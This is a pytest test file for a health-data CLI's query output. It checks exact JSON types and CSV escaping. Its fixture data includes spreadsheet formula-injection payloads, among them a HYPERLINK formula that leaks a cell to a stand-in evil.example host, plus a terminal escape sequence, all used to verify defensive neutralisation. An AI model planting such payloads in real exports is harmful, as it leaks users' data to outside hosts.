"""`vitalflow query` output follows the SQL types in every format, and CSV is safe to open (issue 9)."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone
from decimal import Decimal

import pyarrow as pa
import pytest

from conftest import REPO
from lakefixture import reading, write_batch
from vitalflow.cli import main
from vitalflow.notify import render

T0 = datetime(2026, 11, 20, 8, 0, tzinfo=timezone.utc)
CORPUS = REPO.parent / "shared" / "corpora" / "naughty-strings" / "blns.json"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
def home(tmp_path):
    root = tmp_path / "lake"
    readings = [
        reading("ann", T0, spo2=88),
        reading("bob", T0, spo2=90, hr=170),
        reading("bob", T0, temp=37.25),
    ]
    rejected = [{"raw_line": value, "user_id": value, "reasons": ["row:malformed"]} for value in FORMULAS]
    write_batch(root, "dddd000000000004", readings, rejected, ingested_at=T0)
    return root


def run(home, capsys, sql, fmt):
    assert main(["--home", str(home), "query", sql, "--format", fmt]) == 0, capsys.readouterr().err
    return capsys.readouterr().out


def test_json_numbers_are_numbers(home, capsys):
    out = run(
        home,
        capsys,
        "SELECT count(*) AS n, sum(spo2) AS spo2_total, count_if(spo2 < 92) AS low, "
        "sum(CASE WHEN heart_rate > 160 THEN 1 ELSE 0 END) AS fast, avg(temp_c) AS mean_temp, "
        "CAST(1.50 AS DECIMAL(10, 2)) AS price, bool_or(spo2 < 92) AS any_low FROM processed",
        "json",
    )
    row = json.loads(out, parse_float=Decimal)
    assert row == {
        "n": 3,
        "spo2_total": 276,
        "low": 2,
        "fast": 1,
        "mean_temp": Decimal(str(row["mean_temp"])),
        "price": Decimal("1.50"),
        "any_low": True,
    }
    assert '"low": 2' in out and '"price": 1.50' in out  # not "2", not "1.5" rounded through a float
    assert isinstance(row["mean_temp"], Decimal)  # a JSON number


def test_stored_report_query_json_counts_are_numbers(home, capsys):
    out = main(
        [
            "--home",
            str(home),
            "query",
            "--file",
            "sql/report/anomaly_rules.sql",
            "--param",
            "batch_id=dddd000000000004",
            "--param",
            "dt_from=2026-11-20",
            "--param",
            "dt_to=2026-11-20",
            "--format",
            "json",
        ]
    )
    assert out == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    by_rule = {r["rule"]: r for r in rows}
    assert by_rule["low_spo2"]["readings"] == 2 and by_rule["abnormal_heart_rate"]["users"] == 1
    assert all(isinstance(r["readings"], int) and isinstance(r["users"], int) for r in rows)


def test_json_timestamps_dates_and_nested_values(home, capsys):
    out = run(
        home,
        capsys,
        "SELECT min(p.event_time) AS first_event, max(r.ingested_at) AS ingested, "
        "DATE '2026-11-20' AS day, max(r.dt) AS dt, any_value(r.reasons) AS reasons "
        "FROM rejected AS r CROSS JOIN processed AS p",
        "json",
    )
    row = json.loads(out)
    assert row["first_event"] == "2026-11-20T08:00:00+00:00"
    assert datetime.fromisoformat(row["ingested"]) == T0
    assert row["day"] == "2026-11-20" and row["dt"] == "2026-11-20"
    assert row["reasons"] == ["row:malformed"]


def test_json_keeps_exact_decimals_and_huge_integers():
    from vitalflow.commands.output import write_json_lines

    table = pa.table(
        {
            "big": pa.array([Decimal("12345678901234567890.123456789")], pa.decimal128(38, 9)),
            "huge": pa.array([Decimal(2**100)], pa.decimal128(38, 0)),
            "nan": pa.array([float("nan")], pa.float64()),
            "every": pa.array([[1, None]], pa.list_(pa.int64())),
            "gap": pa.array([pa.MonthDayNano([14, 3, 3_723_500_000_000])], pa.month_day_nano_interval()),
        }
    )
    out = io.StringIO()
    write_json_lines(table, out)
    row = json.loads(out.getvalue(), parse_float=Decimal)
    assert row["big"] == Decimal("12345678901234567890.123456789")
    assert row["huge"] == 2**100
    assert row["nan"] is None and row["every"] == [1, None]
    assert row["gap"] == "P1Y2M3DT1H2M3.5S"


def test_csv_guards_formulas_like_the_email(home, capsys):
    out = run(
        home, capsys, "SELECT source_line, raw_line, user_id, -3 AS delta FROM rejected ORDER BY 1", "csv"
    )
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["raw_line"] for r in rows] == ["'" + value for value in FORMULAS]
    assert [r["user_id"] for r in rows] == ["'" + value for value in FORMULAS]
    assert {r["delta"] for r in rows} == {"-3"}  # numbers are not text: never prefixed


def test_one_formula_guard_shared_with_the_email():
    from vitalflow.spreadsheet import inert

    assert render.inert is inert


def test_csv_values_follow_their_types(home, capsys):
    out = run(
        home,
        capsys,
        "SELECT sum(spo2) AS spo2_total, min(event_time) AS first_event, "
        "CAST(1.50 AS DECIMAL(10, 2)) AS price, bool_or(spo2 < 92) AS any_low, "
        "max(CAST(NULL AS VARCHAR)) AS nothing FROM processed",
        "csv",
    )
    (row,) = csv.DictReader(io.StringIO(out, newline=""))
    assert row == {
        "spo2_total": "276",
        "first_event": "2026-11-20T08:00:00+00:00",
        "price": "1.50",
        "any_low": "true",
        "nothing": "",
    }


def test_help_documents_the_csv_guard_and_the_read_only_rule(capsys):
    with pytest.raises(SystemExit):
        main(["query", "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "formula" in text and "apostrophe" in text and "csv" in text
    assert "Read-only" in text and "SELECT" in text and "ISO-8601" in text


def test_table_shows_data_as_plain_text(tmp_path, capsys):
    root = tmp_path / "lake"
    write_batch(root, "dddd000000000004", [reading("[bold red]mallory[/]\x1b[2J", T0)], ingested_at=T0)
    out = run(root, capsys, "SELECT user_id FROM processed", "table")
    assert "[bold red]mallory[/]" in out  # Rich markup from the data is not interpreted
    assert "\x1b[2J" not in out and "\\x1b[2J" in out  # nor can the data clear the terminal


@pytest.mark.skipif(not CORPUS.is_file(), reason="naughty-strings corpus not present")
def test_naughty_strings_round_trip_through_csv_and_json(tmp_path, capsys):
    strings = [s for s in json.loads(CORPUS.read_text(encoding="utf-8")) if s]
    root = tmp_path / "lake"
    rejected = [{"raw_line": s, "reasons": ["row:malformed"]} for s in strings]
    write_batch(root, "dddd000000000004", [reading("ann", T0)], rejected, ingested_at=T0)
    sql = "SELECT raw_line FROM rejected ORDER BY source_line"
    rows = list(csv.DictReader(io.StringIO(run(root, capsys, sql, "csv"), newline="")))
    assert [r["raw_line"] for r in rows] == [render.inert(s) for s in strings]
    lines = run(root, capsys, sql, "json").splitlines()
    assert [json.loads(line)["raw_line"] for line in lines] == strings


def test_csv_writer_guards_header_and_nested_text():
    from vitalflow.commands.output import write_csv

    table = pa.table({"=cmd": pa.array([["=1", "ok"]], pa.list_(pa.string()))})
    out = io.StringIO()
    write_csv(table, out)
    header, value = list(csv.reader(io.StringIO(out.getvalue())))
    assert header == ["'=cmd"] and value == ['["=1", "ok"]']
